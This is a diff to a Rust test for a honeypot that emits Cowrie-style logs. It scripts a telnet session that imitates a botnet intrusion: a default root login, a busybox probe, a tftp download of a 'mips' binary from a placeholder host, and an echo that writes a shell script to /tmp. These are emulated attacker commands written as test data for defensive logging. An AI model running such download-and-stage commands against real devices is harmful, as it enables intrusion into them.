@@ -183,7 +183,7 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
     assert!(shell.contains("Linux"), "{shell}");
     let text = telnet(
         telnet_addr,
-        b"root\r\n123456\r\n/bin/busybox ECCHI\r\ntftp -g -r mips 198.51.100.9\r\nexit\r\n",
+        b"root\r\n123456\r\n/bin/busybox ECCHI\r\nnosuchcmd\r\ntftp -g -r mips 198.51.100.9\r\necho -e '#!/bin/sh\\necho pwned' > /tmp/p.sh\r\nexit\r\n",
     );
     assert!(text.contains("ECCHI: applet not found"), "{text}");
     assert!(server.sigterm().success());
@@ -246,6 +246,7 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
                 "cowrie.login.failed",
                 "cowrie.login.success",
                 "cowrie.command.input",
+                "cowrie.command.failed",
                 "cowrie.session.file_download",
                 "cowrie.session.closed",
             ][..],
